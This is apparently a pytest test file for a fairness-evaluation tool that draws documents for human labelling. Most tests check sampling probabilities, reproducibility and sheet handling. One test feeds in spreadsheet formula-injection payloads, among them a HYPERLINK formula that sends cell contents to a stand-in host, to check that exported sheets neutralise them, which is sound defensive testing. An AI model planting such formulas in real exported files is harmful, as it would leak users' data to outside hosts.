"""What people are to label is drawn with known probabilities, the same by whoever draws, and kept when more is drawn."""

import math
from hashlib import sha256
from itertools import pairwise

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import fairtrec
from fairtrec.evaluation.inputs import loading
from fairtrec.gold import draw
from fairtrec.lab.gold.draw import RATES, _documents, exposures, hash_names
from fairtrec.support.errors import InputError, UsageError, type_options
from fairtrec_made import THOROUGH

THREE = ["bm25.run", "neural.run", "fair.run"]
A = {"1": {"a": 3.0, "b": 2.0, "c": 1.0}, "2": {"c": 2.0, "d": 1.0}}
B = {"1": {"b": 2.0, "e": 1.0}, "2": {"c": 1.0}}


def chances(drawn):
    """The probability of each document that was drawn."""
    return dict(zip(drawn.docnos, drawn.probability.tolist(), strict=True))


def by_hand(runs, number, seed=0, depth=10):
    """Draw as the page says, document by document."""
    names = {docno for run in runs for ranking in run.values() for docno in ranking}
    size, u = {}, {}
    for docno in names:
        squares = 0.0
        for run in runs:
            ranks = [sorted(of, key=of.get, reverse=True).index(docno) + 1 for of in run.values() if docno in of]
            squares += sum(1 / math.log2(1 + rank) for rank in ranks if rank <= depth) ** 2
        size[docno] = math.sqrt(squares / len(runs))
        head = int.from_bytes(sha256(f"{seed} {docno}".encode()).digest()[:8], "big")
        u[docno] = (head + 0.5) / 2**64
    order = sorted((docno for docno in names if size[docno]), key=lambda docno: (-size[docno] / u[docno], docno))
    left_out = order[number] if number < len(order) else None
    least = 0 if left_out is None else size[left_out] / u[left_out]
    return {docno: min(1.0, size[docno] / least) if least else 1.0 for docno in order[:number]}


@pytest.mark.parametrize("number", range(1, 7))
@pytest.mark.parametrize("seed", [0, 7])
def test_documents_are_drawn_by_their_exposure_over_a_number_of_their_own(number, seed):
    drawn = draw({"a": A, "b": B}, number, seed=seed, depth=2)
    expected = by_hand([A, B], number, seed, depth=2)
    assert list(drawn.docnos) == list(expected)
    assert drawn.probability.tolist() == pytest.approx(list(expected.values()), rel=1e-12)
    assert (drawn.drawn, drawn.of) == (min(number, 5), 5)


def test_the_sheet_of_the_example_is_this_one(copied):
    drawn = draw(THREE, 30, docs="collection.tsv")
    drawn.write("sheet.tsv")
    signed, head, first, *others = (copied / "sheet.tsv").read_text("utf-8").splitlines()
    assert f"fairtrec:{fairtrec.__version__} | {signed.removeprefix('# ')}" == str(drawn.signature)
    assert "# gold:document | number:30 of 68 | seed:0 | depth:10 | order:score | runs:bm25.run@13a76181," in signed
    assert head == "docno\tgroup\tprobability\ttext"
    assert first.startswith("p009\t\t0.3812162307804966\tIn many districts the superintendent alone")
    assert len(others) == 29
    assert drawn.certain_count == 0
    assert [round(drawn.half_widths[rate], 3) for rate in RATES] == [0.084, 0.118, 0.177]
    assert str(drawn).splitlines()[0] == (
        "30 of the 68 documents in the top 10 of 3 runs, drawn by exposure; no document is certain to be drawn"
    )
    filled = (copied / "sheet.tsv").read_text("utf-8").replace("\t\t", "\tf\t")
    (copied / "sheet.tsv").write_text(filled, "utf-8")
    sheet = loading.gold("sheet.tsv")
    names = [name.decode() for name in sheet.labels.rows.names.tolist()]
    assert dict(zip(names, sheet.probability.tolist(), strict=True)) == chances(drawn)
    assert (sheet.depth, sheet.seed, [name for _, name in sheet.runs]) == (10, 0, THREE)


def test_widths_of_ten_runs_are_told_beforehand(shared):
    runs = sorted((shared / "data" / "cpjku" / "runs" / "msmarco_passage").glob("*.run"))
    for number, widths in {200: [0.045, 0.085, 0.143], 1000: [0.016, 0.035, 0.060]}.items():
        drawn = draw(runs, number)
        assert drawn.of == 8311
        assert [round(drawn.half_widths[rate], 3) for rate in RATES] == widths


def test_a_draw_of_more_begins_with_that_of_fewer(copied):
    several = [draw(THREE, number) for number in (1, 5, 30, 67, 68, 200)]
    for fewer, more in pairwise(several):
        assert more.docnos[: len(fewer.docnos)] == fewer.docnos
        assert all(chances(more)[docno] >= chance for docno, chance in chances(fewer).items())
    assert several[-1].probability.tolist() == several[-2].probability.tolist() == [1] * 68
    queries = [draw(THREE, number, unit="query") for number in (2, 7, 12)]
    assert all(
        more.qids[: len(fewer.qids)] == fewer.qids and more.docnos[: len(fewer.docnos)] == fewer.docnos
        for fewer, more in pairwise(queries)
    )


@pytest.mark.parametrize("number", [10, 30, 60])
def test_drawn_documents_stand_for_all_of_them(copied, number):
    """The sum of 1/p estimates how many there are, without bias, and that of x/p the whole exposure."""
    frame = exposures([loading.run(run, run, fairtrec.Choices(), 10) for run in THREE])
    found = []
    for seed in range(2000 if THOROUGH else 800):
        rows, chance = _documents(frame, number, seed)
        found.append([(1 / chance[rows]).sum(), (frame.mean()[rows] / chance[rows]).sum()])
    mean, error = np.mean(found, axis=0), np.std(found, axis=0) / math.sqrt(len(found))
    assert np.abs(mean - [68, frame.mean().sum()]) == pytest.approx([0, 0], abs=float(3 * error.max()))
    assert (np.abs(mean - [68, frame.mean().sum()]) <= 3 * error).all()


@st.composite
def several_runs(draw):
    docnos = st.permutations([f"d{i}" for i in range(8)])
    rankings = st.dictionaries(st.sampled_from(["q1", "q2", "q3", "q4"]), docnos, min_size=1)
    cut = st.integers(1, 8)
    return [
        {qid: {docno: float(-rank) for rank, docno in enumerate(order[: draw(cut)])} for qid, order in of.items()}
        for of in draw(st.lists(rankings, min_size=1, max_size=4))
    ]


@given(runs=several_runs(), number=st.integers(1, 9), unit=st.sampled_from(["document", "query"]), dice=st.randoms())
def test_neither_the_order_of_runs_and_lines_nor_each_twice_changes_a_draw(runs, number, unit, dice):
    first = draw(dict(enumerate(runs)), number, unit=unit)
    queries = [dice.sample([*run], len(run)) for run in runs]
    shuffled = [
        {qid: dict(dice.sample([*run[qid].items()], len(run[qid]))) for qid in qids}
        for run, qids in zip(runs, queries, strict=True)
    ]
    dice.shuffle(shuffled)
    for others in (shuffled, [*runs, *shuffled]):
        again = draw(dict(enumerate(others)), number, unit=unit)
        assert (again.docnos, again.qids) == (first.docnos, first.qids)
        assert again.probability.tolist() == first.probability.tolist()


def test_queries_are_drawn_whole_each_with_the_same_probability():
    drawn = draw({"a": A, "b": B}, 1, unit="query", depth=2)
    of = {"1": {"a", "b", "e"}, "2": {"c", "d"}}
    names = np.array([b"1", b"2"])
    qid = str(1 + int(hash_names(names, 0).argmin()))
    assert set(drawn.qids) == {qid}
    assert set(drawn.docnos) == of[qid]
    assert set(drawn.probability.tolist()) == {0.5}
    assert (drawn.drawn, drawn.of, drawn.half_widths) == (1, 2, {})
    rising = hash_names(np.array([docno.encode() for docno in drawn.docnos]), 0).tolist()
    assert rising == sorted(rising)
    assert "corrected values have no interval with fewer than 30 queries" in str(drawn)


def test_another_seed_draws_others_and_other_queries_other_documents(copied):
    first = draw(THREE, 20)
    assert draw(THREE, 20, seed=1).docnos != first.docnos
    some = draw(THREE, 20, queries=["101", "102"])
    assert some.of < first.of
    assert "queries" in some.signature
    with pytest.raises(InputError, match="no run has a query of"):
        draw(THREE, 20, queries=["none"])


def test_labels_are_kept_when_more_is_drawn(copied):
    draw(THREE, 10).write("sheet.tsv")
    lines = (copied / "sheet.tsv").read_text("utf-8").splitlines()
    first, second = (line.split("\t")[0] for line in lines[2:4])
    lines[2] = lines[2].replace("\t\t", "\tf\t")
    lines[3] = lines[3].replace("\t\t", "\tm\t")
    lines.append(lines[2].replace("\tf\t", "\tm\t"))
    (copied / "sheet.tsv").write_text("\n".join(lines), "utf-8")
    more = draw(THREE, 40, gold="sheet.tsv")
    assert [row[:2] for row in more.lines()][:3] == [(first, "f"), (first, "m"), (second, "m")]
    assert more.empty == 38
    assert "still without a group: 38 of the 40 documents" in str(more)
    more.write("more.tsv")
    assert (
        loading_fails("more.tsv")
        == "38 of 41 lines have no group yet; label them, or draw fewer: --number 2 --gold more.tsv"
    )


def loading_fails(path):
    with pytest.raises(InputError) as refused:
        loading.gold(path)
    return refused.value.message


def test_weights_of_votes_are_kept_too():
    votes = {"a": {"f": 0.25, "-": 0.75}, "b": "?"}
    drawn = draw(A, 4, gold=votes)
    assert drawn.columns == ("docno", "group", "weight", "probability")
    frame = drawn.to_frame()
    assert frame[frame.docno == "a"][["group", "weight"]].values.tolist() == [["f", 0.25], ["-", 0.75]]
    assert frame[frame.docno == "b"]["group"].tolist() == ["?"]
    again = draw(A, 4, gold=frame)
    assert again.votes == drawn.votes


def test_labels_of_a_query_are_kept_for_it_and_for_others_where_none_contradicts():
    gold = pd.DataFrame({"qid": ["1", "1"], "docno": ["c", "b"], "group": ["f", "m"]})
    both = draw(A, 2, unit="query", gold=gold)
    kept = {(qid, docno): votes for qid, docno, votes in zip(both.qids, both.docnos, both.votes, strict=True)}
    assert kept["1", "c"] == kept["2", "c"] == (("f", 1.0),)
    assert kept["1", "a"] == ()
    differ = pd.concat([gold, gold.assign(qid=["2", "2"], group=["m", "m"])])
    both = draw(A, 2, unit="query", gold=differ)
    kept = {(qid, docno): votes for qid, docno, votes in zip(both.qids, both.docnos, both.votes, strict=True)}
    assert (kept["1", "c"], kept["2", "c"]) == ((("f", 1.0),), (("m", 1.0),))
    with pytest.raises(InputError, match="document c has other groups in query 2 than in query 1"):
        draw(A, 2, gold=differ)


def test_texts_stand_on_one_line_and_what_has_none_is_counted():
    drawn = draw(A, 4, docs={"a": "one\ttwo\nthree\u2028four", "b": "x", "c": "\ud800y"})
    texts = dict(zip(drawn.docnos, drawn.texts, strict=True))
    assert texts == {"a": "one two three four", "b": "x", "c": "?y", "d": ""}
    assert "1 of the documents has no text" in str(drawn)


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        ({"number": 0}, "the number is 0; it must be a whole number of 1 or more"),
        ({"number": True}, "the number is True"),
        ({"number": 3, "depth": 1.5}, "the depth is 1.5"),
        ({"number": 3, "seed": -1}, "the seed is -1"),
        ({"number": 3, "unit": "rank"}, "the unit 'rank' is not known; choose one of document, query"),
    ],
)
def test_what_makes_no_sense_is_refused(asked, told):
    with pytest.raises(UsageError, match=told):
        draw(A, **asked)


@pytest.mark.parametrize("docno", ["#a", "a b"])
def test_an_id_that_no_line_can_hold_is_refused(docno):
    with pytest.raises(InputError, match="starts with # or holds white space"):
        draw({"1": {docno: 1.0}}, 1)


def test_a_draw_of_all_says_that_nothing_is_left_to_chance():
    drawn = draw(A, 9)
    assert "corrected values have no interval, because everything was drawn" in str(drawn)
    assert drawn.flat()["documents_certain"] == 4


def test_an_existing_sheet_is_overwritten_by_force_alone(copied, fairtrec_command):
    line = ["gold", "draw", *THREE, "--number", "5", "-o", "sheet.tsv"]
    assert fairtrec_command(*line).code == 0
    (copied / "sheet.tsv").write_text("labeled", "utf-8")
    refused = fairtrec_command(*line)
    assert (refused.code, refused.err) == (
        2,
        "sheet.tsv exists; add --force to replace it, or choose another with -o\n",
    )
    also_read = fairtrec_command(*line, "--gold", "sheet.tsv", "--force")
    assert (also_read.code, also_read.err) == (2, "the output sheet.tsv is also read; choose another with -o\n")
    assert (copied / "sheet.tsv").read_text("utf-8") == "labeled"
    done = fairtrec_command(*line, "--force")
    assert done.code == 0
    with type_options():
        assert done.out == f"{draw(THREE, 5)}\n"
    assert (copied / "sheet.tsv").read_text("utf-8").startswith("# gold:document | number:")


def test_no_cell_of_a_sheet_is_a_formula(tmp_path):
    formula = '=HYPERLINK("//x/"&A1,"see")'
    run = {"+q": {"-d1": 3.0, "@d2": 2.0, "'=d3": 1.0, '"d4': 0.5}}
    texts = {"-d1": formula, "@d2": "-1+1", "'=d3": "@SUM(1)", '"d4': f'"{formula}"'}
    for unit in ("document", "query"):
        drawn = draw({"a": run}, 4, unit=unit, docs=texts, gold={"-d1": "=f", "@d2": "-", "'=d3": "m", '"d4': "f"})
        drawn.write(tmp_path / "sheet.tsv")
        _, head, *lines = (tmp_path / "sheet.tsv").read_text("utf-8").splitlines()
        cells = [cell for line in lines for cell in line.split("\t")]
        assert len(cells) == 4 * len(head.split("\t"))
        assert not [cell for cell in cells if cell[:1] in {*'=+-@"'} and cell != "-"]
        sheet = loading.gold(tmp_path / "sheet.tsv", per_query=unit == "query")
        names = {name.decode().removeprefix("+q ") for name in sheet.labels.rows.names.tolist()}
        assert (names, sheet.labels.groups) == ({*run["+q"]}, ("=f", "f", "m"))
        assert sheet.labels.none


def test_a_hundred_documents_or_thirty_queries_are_drawn_unless_told():
    run = {f"q{at}": {f"d{at}-{rank}": -float(rank) for rank in range(5)} for at in range(40)}
    assert (draw(run).drawn, draw(run).of) == (100, 200)
    assert (draw(run, unit="query").drawn, draw(run, unit="query").of) == (30, 40)


def test_a_sheet_without_texts_says_so(copied, fairtrec_command):
    note = "the sheet has no texts to read; --docs COLLECTION adds them"
    done = fairtrec_command("gold", "draw", *THREE, "-o", "sheet.tsv")
    assert note in done.out.splitlines()
    done = fairtrec_command("gold", "draw", *THREE, "--docs", "collection.tsv", "-o", "sheet.tsv", "--force")
    assert note not in done.out
